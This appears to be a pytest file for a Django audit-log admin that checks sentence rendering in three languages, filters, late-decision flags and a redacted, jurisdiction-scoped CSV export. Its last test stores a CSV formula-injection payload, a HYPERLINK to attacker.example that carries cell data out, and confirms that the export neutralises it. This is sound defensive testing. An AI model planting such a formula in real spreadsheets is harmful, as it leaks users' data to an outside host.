"""The audit log as sentences, its filters (petition, actor, action, date range, late) and its
CSV export (recall/admin/audit.py, recall/audit_labels.py)."""

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.urls import reverse
from django.utils import formats, translation

from recall.calendar import local_midnight
from recall.models import AuditEntry
from recall.services import lifecycle
from tests.helpers import application, populate

LIST = "admin:recall_auditentry_changelist"
EXPORT = "admin:recall_auditentry_export"


@pytest.fixture
def named_bob(bob):
    bob.first_name, bob.last_name = "Асхат", "Иванов"
    bob.save()
    return bob


def _listed(client, user, query="", language="en"):
    client.force_login(user)
    response = client.get(reverse(LIST) + query, HTTP_ACCEPT_LANGUAGE=language)
    assert response.status_code == 200
    return response


def _csv(client, user, query="", language="en"):
    client.force_login(user)
    response = client.get(reverse(EXPORT) + query, HTTP_ACCEPT_LANGUAGE=language)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def test_an_entry_reads_as_a_sentence_naming_the_official(client, named_bob, applied):
    lifecycle.register(applied, actor=named_bob)
    html = _listed(client, named_bob).content.decode()
    assert f"Иванов А. registered application No. {applied.pk}" in html


def test_the_sentence_is_in_the_officials_language(client, named_bob, applied):
    lifecycle.register(applied, actor=named_bob)
    assert (
        f"Иванов А. зарегистрировал(а) заявление № {applied.pk}"
        in _listed(client, named_bob, language="ru").content.decode()
    )
    assert f"Иванов А. № {applied.pk} өтінішті тіркеді" in _listed(client, named_bob, language="kk").content.decode()


def test_a_late_decision_says_so(client, named_bob, karaganda, voters, policy):
    petition = application(karaganda, voters[:3], applied_at=local_midnight(dt.date(2026, 12, 1)))
    with time_machine.travel(local_midnight(dt.date(2026, 12, 15)), tick=False):
        lifecycle.refuse(petition, actor=named_bob, reason="Not of the district.")
    response = _listed(client, named_bob, "?late=yes")
    assert [e.details["step"] for e in response.context["cl"].result_list] == ["refuse"]
    with translation.override("en"):
        due = formats.date_format(dt.date(2026, 12, 11), "SHORT_DATE_FORMAT")
    assert f"after the due date {due}" in response.content.decode()
    assert 'class="audit-late"' in response.content.decode()


def test_the_log_filters_by_petition_actor_and_dates(client, named_bob, applied, karaganda2):
    other = application(karaganda2, populate(karaganda2, 5)[:3])
    lifecycle.register(applied, actor=named_bob)
    lifecycle.register(other, actor=None)
    by_petition = _listed(client, named_bob, f"?petition={applied.pk}").context["cl"].result_list
    assert {e.petition_id for e in by_petition} == {applied.pk}
    by_bob = _listed(client, named_bob, f"?actor=u{named_bob.pk}").context["cl"].result_list
    assert [(e.actor_id, e.petition_id) for e in by_bob] == [(named_bob.pk, applied.pk)]
    by_system = _listed(client, named_bob, "?actor=ssystem").context["cl"].result_list
    assert by_system and all(e.actor_id is None for e in by_system)
    AuditEntry.objects.filter(petition=other).update(at=local_midnight(dt.date(2026, 1, 10)))
    in_january = _listed(client, named_bob, "?from=2026-01-10&to=2026-01-10").context["cl"].result_list
    assert {e.petition_id for e in in_january} == {other.pk}
    assert not _listed(client, named_bob, "?from=2026-01-11&to=2026-01-31").context["cl"].result_list


def test_the_filters_are_labelled_inputs(client, named_bob, applied):
    html = _listed(client, named_bob).content.decode()
    for name in ("petition", "from", "to"):
        assert f'<label for="filter-{name}">' in html and f'id="filter-{name}"' in html


def test_a_bad_filter_value_is_not_an_error_page(client, named_bob, applied):
    client.force_login(named_bob)
    response = client.get(reverse(LIST) + "?from=yesterday")
    assert response.status_code == 302 and "e=1" in response["Location"]  # Django's "invalid filter" notice
    assert client.get(reverse(EXPORT) + "?petition=abc").status_code == 400


def test_an_observer_exports_the_filtered_log_as_csv(client, olga, named_bob, applied, karaganda2):
    other = application(karaganda2, populate(karaganda2, 5)[:3])
    lifecycle.register(applied, actor=named_bob)
    lifecycle.register(other, actor=None)
    rows = _csv(client, olga, f"?petition={applied.pk}")
    assert rows[0] == ["at", "who", "what happened", "action", "petition", "reason", "late"]
    assert {r[4] for r in rows[1:]} == {str(applied.pk)}
    assert [f"Иванов А. registered application No. {applied.pk}"] == [r[2] for r in rows if r[1] == "Иванов А."]
    assert all(len(r) == 7 for r in rows)


def test_the_csv_has_no_details_and_stays_in_the_jurisdiction(client, charlie, named_bob, applied):
    lifecycle.register(applied, actor=named_bob)
    AuditEntry.objects.filter(petition=applied).update(details={"iin": "880101300123"})
    rows = _csv(client, charlie)  # Almaty's official: Karaganda's petition is not theirs
    assert all(r[4] != str(applied.pk) for r in rows[1:])
    rows = _csv(client, named_bob)
    assert rows[1:] and "880101300123" not in "".join(",".join(r) for r in rows)


def test_the_csv_is_in_the_officials_language(client, named_bob, applied):
    lifecycle.register(applied, actor=named_bob)
    rows = _csv(client, named_bob, language="ru")
    assert rows[0][2] == "что произошло"
    assert f"Иванов А. зарегистрировал(а) заявление № {applied.pk}" in [r[2] for r in rows]


def test_the_list_links_to_the_export_with_its_filters(client, named_bob, applied):
    html = _listed(client, named_bob, f"?petition={applied.pk}").content.decode()
    assert reverse(EXPORT) + f"?petition={applied.pk}" in html


def test_a_reason_that_reads_as_a_formula_is_written_as_text(client, named_bob, applied):
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    lifecycle.register(applied, actor=named_bob)
    AuditEntry.objects.filter(petition=applied).update(reason=formula)
    rows = _csv(client, named_bob, f"?petition={applied.pk}")
    reasons = [r[5] for r in rows[1:] if r[5]]
    assert reasons and all(reason == "'" + formula for reason in reasons)
